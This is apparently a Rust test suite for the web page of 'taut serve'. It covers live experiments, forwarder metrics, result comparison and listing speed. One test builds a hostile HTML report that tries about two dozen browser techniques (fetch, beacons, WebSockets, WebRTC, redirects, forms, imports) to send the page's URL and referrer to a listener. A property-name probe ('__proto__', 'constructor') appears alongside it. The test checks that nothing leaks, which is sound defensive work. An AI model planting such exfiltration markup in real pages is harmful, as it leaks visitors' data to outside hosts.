//! The page of `taut serve` in a browser: a running experiment, a forwarder, a comparison of two results folders, and a
//! list of ten thousand folders.

use crate::support::browser::Browser;
use crate::support::program::{Program, run};
use crate::support::{is_root, scratch, taut};
use serde_json::Value;
use std::fs;
use std::io::{Read, Write};
use std::net::TcpListener;
use std::path::Path;
use std::process::Command;
use std::sync::{Arc, Mutex};
use std::time::Duration;

/// Starts `taut serve` for a folder, and returns the program and the address of its page.
pub(super) fn serve(folder: &Path, more: &[&str]) -> (Program, String) {
    let mut command = taut(&["serve", "--listen", "0", "--json", "--until-stdin-closes"]);
    let mut server = Program::start(command.args(more).arg(folder));
    server.wait_for_stdout("started");
    let started: Value = serde_json::from_str(server.stdout().lines().next().unwrap()).unwrap();
    let url = started["url"].as_str().unwrap().to_owned();
    (server, url)
}

/// Returns an experiment whose runs each wait for `gate/go` and remove it.
fn gated(gate: &Path) -> String {
    let go = gate.join("go");
    let go = go.display();
    format!(
        r#"
title = "Numbers"
[loop]
x = [1, 2]
[plan]
repetitions = 2
[[step]]
name = "it"
run = "while ! rm '{go}' 2>/dev/null; do sleep 0.02; done; echo '{{\"value\": {{{{ x }}}}.5}}'"
json = true
[[table]]
name = "all"
title = "All"
rows = ["x"]
metrics = ["it.value"]
[[figure]]
name = "values"
kind = "line"
x = "x"
y = "it.value"
"#
    )
}

#[test]
fn a_browser_displays_a_running_experiment_and_a_forwarder() {
    if !is_root() {
        return;
    }
    let folder = scratch();
    let results = folder.path().join("results");
    fs::create_dir(&results).unwrap();
    let mut forward = taut(&["forward", "--port", "null:source=1", "--port", "null:"]);
    forward.args(["--wait", "yield", "--quiet", "--metrics", "127.0.0.1:0"]);
    let mut forwarder = Program::start(&mut forward);
    forwarder.wait_for_stderr("metrics at ");
    let said = forwarder.stderr();
    let metrics = said
        .lines()
        .find_map(|it| it.strip_prefix("taut: metrics at "));
    let (server, url) = serve(&results, &["--watch", metrics.unwrap()]);
    let Some(mut browser) = Browser::open(&url) else {
        return;
    };
    // Other tests run experiments at the same time, so this one runs in a network namespace, which counts as a separate
    // machine.
    let file = folder.path().join("numbers.toml");
    fs::write(&file, gated(folder.path())).unwrap();
    let mut command = Command::new("unshare");
    command.args(["--net", env!("CARGO_BIN_EXE_taut"), "experiment", "run"]);
    let experiment = Program::start(command.arg(&file).arg("--out").arg(results.join("one")));

    // The list shows the experiment, with a button for it.
    let button =
        "[...document.querySelectorAll('#rows button')].find(it => it.textContent === 'Live')";
    browser.wait_until(button);
    browser.value(&format!("{button}.click()"));
    let state = "document.getElementById('live-state').textContent";
    browser.wait_until(&format!(
        "{state}.startsWith('running; 0 of 4 runs; now v')"
    ));
    for done in 1..=4 {
        fs::write(folder.path().join("go"), "").unwrap();
        browser.wait_until(&format!("{state}.includes('; {done} of 4 runs')"));
        let rows = format!("document.querySelectorAll('#live-runs tr').length === {done}");
        browser.wait_until(&rows);
    }
    browser.wait_until(&format!("{state}.startsWith('finished; 4 of 4')"));
    let row = browser.value("document.querySelector('#live-runs tr').textContent");
    assert!(row.as_str().unwrap().contains(".5"), "{row}");
    assert_eq!(
        browser.value("document.querySelectorAll('#live-chart circle').length"),
        4
    );
    experiment.finish().success();

    // The page shows the rate of the forwarder's packets by now, and draws a line.
    let watched = "document.getElementById('watched-0')";
    browser.wait_until(&format!("{watched}.querySelector('polyline')"));
    let table = browser.value(&format!("{watched}.querySelector('table').textContent"));
    let table = table.as_str().unwrap();
    assert!(
        table.contains("forward_received_packets_total") && table.contains(" /s"),
        "{table}"
    );
    forwarder.interrupt().success();
    browser.wait_until(&format!(
        "{watched}.textContent.includes('gives no metrics')"
    ));

    // Two results are drawn in one figure.
    let copy = results.join("two");
    run(Command::new("cp")
        .arg("-r")
        .args([&results.join("one"), &copy]))
    .success();
    browser.wait_until("document.querySelectorAll('#rows input').length === 2");
    let tick = "document.querySelectorAll('#rows input:not(:checked)')[0].click()";
    browser.value(tick);
    browser.value(tick);
    let opened = browser.value(
        "let opened; window.open = it => opened = it; document.getElementById('compare').click(); opened",
    );
    let root = url.split_inclusive('/').take(3).collect::<String>();
    let opened = opened.as_str().unwrap();
    let framed = browser.value(&format!(
        "fetch('{opened}').then(it => it.text())
           .then(it => fetch(new DOMParser().parseFromString(it, 'text/html').querySelector('iframe').getAttribute('src')))
           .then(it => it.text())"
    ));
    assert!(framed.as_str().unwrap().contains("it.value"), "{framed}");
    browser.go(&format!("{}{opened}", root.trim_end_matches('/')));
    assert_eq!(browser.close(), Vec::<String>::new());
    let ended = server.interrupt().success();
    assert!(!ended.stderr.contains("panicked"), "{ended:?}");
}

#[test]
fn ten_thousand_results_are_listed_and_searched_without_delay() {
    let folder = scratch();
    for number in 0..10_000 {
        let one = folder
            .path()
            .join(format!("{:02}/{number:05}", number % 100));
        fs::create_dir_all(&one).unwrap();
        let state = format!(
            r#"{{"title": "Number {number}", "stage": "finished", "started": "2026-01-01T00:00:00Z",
                "done": 20, "planned": 20,
                "command_line": "taut experiment run numbers"}}"#
        );
        fs::write(one.join("state.json"), state).unwrap();
    }
    let (server, url) = serve(folder.path(), &[]);
    let Some(mut browser) = Browser::open(&url) else {
        return;
    };
    browser.wait_until("document.getElementById('count').textContent === '(10000)'");
    assert_eq!(
        browser.value("document.querySelectorAll('#rows tr').length"),
        300
    );
    // The list is fetched, parsed, drawn and laid out, then searched. Other programs run as well, so the fastest of a
    // few attempts counts.
    let times = "(async () => {
        const times = [];
        for (let left = 5; left > 0; left--) {
            const began = performance.now();
            shownOf = '';
            await look();
            document.body.offsetHeight;
            const listed = performance.now();
            document.getElementById('search').value = 'number ' + (9000 + left);
            draw(false);
            document.body.offsetHeight;
            times.push([listed - began, performance.now() - listed]);
            document.getElementById('search').value = '';
        }
        return times;
    })()";
    let times: Vec<[f64; 2]> = serde_json::from_value(browser.value(times)).unwrap();
    println!("listed and searched, ms: {times:?}");
    assert!(
        times
            .iter()
            .any(|[listed, searched]| listed + searched < 1000.0),
        "{times:?}"
    );
    browser.value("document.getElementById('search').value = 'number 9876'; draw(false)");
    let shown = browser.value("document.getElementById('rows').textContent");
    assert!(shown.as_str().unwrap().contains("76/09876"), "{shown}");
    assert_eq!(
        browser.value("document.querySelectorAll('#rows tr').length"),
        1
    );
    assert_eq!(browser.close(), Vec::<String>::new());
    server.interrupt().success();
}

/// Returns a hostile page that uses every known method to make the browser connect to an address.
fn stranger(at: &str) -> String {
    format!(
        r##"<!doctype html>
<html><head><title>Numbers</title>
<meta http-equiv="refresh" content="0;url=http://{at}/refresh">
<link rel="prefetch" href="http://{at}/prefetch"><link rel="preconnect" href="http://{at}"><link rel="stylesheet" href="http://{at}/style">
<style>@import "http://{at}/import"; body {{ background: url(http://{at}/background); }}
a, input {{ position: fixed; left: 0; width: 100%; height: 50%; }} a {{ top: 0; }} input {{ top: 50%; }}</style>
</head><body>
<img src="http://{at}/image"><iframe src="http://{at}/frame"></iframe><object data="http://{at}/object"></object>
<video src="http://{at}/video" autoplay></video>
<form action="http://{at}/form"><input type="submit" value="submit"></form>
<a href="http://{at}/anchor" target="_top" ping="http://{at}/ping">click</a>
<script>
const all = encodeURIComponent([location.href, document.referrer, document.baseURI].join());
const to = "http://{at}/" + all;
for (const tries of [
  () => fetch(to), () => navigator.sendBeacon(to), () => new WebSocket("ws://{at}/" + all), () => window.open(to),
  () => new Image().src = to, () => document.forms[0].submit(), () => top.location = to, () => parent.location = to,
  () => new RTCPeerConnection({{ iceServers: [{{ urls: "turn:{at}?transport=tcp", username: "a", credential: all }}] }})
    .createDataChannel("a"),
  () => import(to), () => new Worker(to), () => new EventSource(to), () => document.querySelector("a").click(),
  () => document.write("<iframe src='" + to + "'></iframe>"), () => location = to,
]) try {{ tries(); }} catch {{}}
</script>
</body></html>"##
    )
}

#[test]
fn an_untrusted_report_sends_no_data_to_other_hosts() {
    let folder = scratch();
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let at = listener.local_addr().unwrap().to_string();
    let heard: Arc<Mutex<Vec<String>>> = Arc::default();
    let hears = Arc::clone(&heard);
    // The thread ends with the test's process.
    std::thread::spawn(move || {
        for client in listener.incoming() {
            let mut client = client.unwrap();
            let mut said = [0; 2000];
            client
                .set_read_timeout(Some(Duration::from_secs(2)))
                .unwrap();
            let bytes = client.read(&mut said).unwrap_or(0);
            let said = String::from_utf8_lossy(&said[..bytes]).into_owned();
            hears.lock().unwrap().push(format!("connected: {said}"));
            let _ = client
                .write_all(b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\nConnection: close\r\n\r\n");
        }
    });
    let one = folder.path().join("one");
    fs::create_dir(&one).unwrap();
    let state = r#"{"title": "Numbers", "stage": "finished", "started": "2026-01-01T00:00:00Z"}"#;
    fs::write(one.join("state.json"), state).unwrap();
    fs::write(one.join("report.html"), stranger(&at)).unwrap();
    let verdicts = r#"{"verdicts": [{"verdict": "constructor"}, {"verdict": "__proto__"}]}"#;
    fs::write(one.join("summary.json"), verdicts).unwrap();
    let (server, url) = serve(folder.path(), &[]);
    let Some(mut browser) = Browser::open(&url) else {
        return;
    };
    // A verdict with the name of a built-in object property is displayed like any other word.
    browser.wait_until("document.getElementById('rows').textContent.includes('1 constructor')");
    let shown = format!("{url}report/one");
    browser.go(&shown);
    browser.wait_until(
        "performance.getEntriesByType('resource').some(it => it.initiatorType === 'iframe' && it.responseEnd > 0)",
    );
    // The page gets a second for its own attempts to connect; then every element is clicked. A browser may connect for
    // a click, but sends nothing.
    std::thread::sleep(Duration::from_secs(1));
    assert_eq!(*heard.lock().unwrap(), Vec::<String>::new());
    for y in [100, 500] {
        browser.click(300, y);
        std::thread::sleep(Duration::from_millis(500));
    }
    assert_eq!(browser.value("location.href"), shown.as_str());
    let after = heard.lock().unwrap().clone();
    assert!(after.iter().all(|it| it == "connected: "), "{after:?}");
    // A direct visit does reach the listener, so the listener would have noticed any request from the page.
    browser.go(&format!("http://{at}/well"));
    assert!(heard.lock().unwrap().iter().any(|it| it.contains("/well")));
    browser.close();
    server.interrupt().success();
}
